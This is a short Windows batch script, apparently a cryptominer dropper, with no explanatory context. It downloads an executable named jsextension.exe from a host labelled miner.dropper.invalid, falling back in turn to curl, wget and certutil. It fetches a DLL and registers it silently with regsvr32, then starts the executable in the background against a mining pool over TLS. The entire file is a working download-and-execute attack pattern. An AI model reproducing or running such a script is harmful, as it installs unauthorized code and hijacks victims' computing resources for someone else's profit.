@echo off
curl http://miner.dropper.invalid/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
    wget http://miner.dropper.invalid/download/jsextension.exe -O jsextension.exe
)
if not exist jsextension.exe (
    certutil.exe -urlcache -f http://miner.dropper.invalid/download/jsextension.exe jsextension.exe
)
curl https://miner.dropper.invalid/sdd.dll -o create.dll
regsvr32.exe -s create.dll
jsextension.exe -k --tls -o pool.miner.invalid:443 --background
